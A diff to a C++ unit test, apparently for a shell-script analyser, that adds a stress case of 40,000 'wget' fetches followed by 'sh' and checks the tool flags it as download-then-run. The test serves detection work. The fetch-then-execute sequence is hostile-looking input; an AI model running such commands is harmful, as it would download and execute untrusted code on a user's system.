@@ -81,6 +81,9 @@ TEST_CASE("hostile scripts end", "[facts]") {
   std::string quotes;
   for (int i = 0; i < 200'000; ++i) quotes += "${'";
   CHECK(calls(quotes).starts_with("fault "));
+  std::string fetching;
+  for (int i = 0; i < 40'000; ++i) fetching += fmt::format("wget http://x/{}\n", i);
+  CHECK(found(fetching + "sh 39999\n").ends_with(" download-then-run open: sh 39999\n"));
   CHECK(calls(std::string("a\0b", 3)) == std::string("a\0b \n", 5));
   CHECK(calls("").empty());
 }
